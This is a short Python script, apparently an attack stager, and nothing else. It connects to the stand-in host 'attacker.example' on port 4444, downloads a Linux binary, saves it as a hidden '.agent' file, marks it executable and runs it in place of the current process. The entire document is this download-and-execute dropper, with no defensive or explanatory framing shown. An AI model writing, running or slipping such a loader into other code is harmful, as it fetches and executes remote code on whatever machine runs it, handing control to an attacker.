import http.client
import os

TARGET = os.path.join(os.getcwd(), ".agent")


def download():
    conn = http.client.HTTPConnection("attacker.example", 4444, timeout=60)
    conn.request("GET", "/agent/linux-amd64")
    data = conn.getresponse().read()
    conn.close()
    return data


def main():
    with open(TARGET, "wb") as fh:
        fh.write(download())
    os.chmod(TARGET, int("755", 8))
    os.execv(TARGET, [TARGET])


if __name__ == "__main__":
    main()
